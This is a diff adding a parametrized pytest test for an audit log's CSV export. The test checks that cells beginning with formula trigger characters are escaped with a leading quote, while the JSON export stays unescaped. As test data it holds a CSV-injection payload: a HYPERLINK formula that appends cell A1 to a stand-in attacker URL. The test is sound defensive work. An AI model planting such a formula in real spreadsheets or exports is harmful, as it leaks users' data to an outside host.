@@ -123,3 +123,26 @@ def test_pagination(client: Client, viewer: User, db: None) -> None:
     second = client.get("/audit/?page=2").content.decode()
     assert first.count('<tr data-action="') == 50 and second.count('<tr data-action="') == 10
     assert "Page 1 of 2 (60 entries)" in first
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_export_escapes_cells_a_spreadsheet_would_run(
+    client: Client, viewer: User, db: None, start: str
+) -> None:
+    formula = start + 'HYPERLINK("https://evil.example/?"&A1,"click")'
+    record(
+        Actor.system(start + "mallory"),
+        "override.set",
+        environment="production",
+        kind="breaker",
+        name="payments",
+        reason=formula,
+    )
+    client.force_login(viewer)
+    response = client.get("/audit/export.csv")
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert rows[0]["reason"] == "'" + formula
+    assert rows[0]["actor_name"] == "'" + start + "mallory"
+    assert rows[0]["action"] == "override.set"  # other cells are left as they are
+    json_rows = json.loads(b"".join(client.get("/audit/export.json").streaming_content))
+    assert json_rows[0]["reason"] == formula  # JSON is data, not a spreadsheet
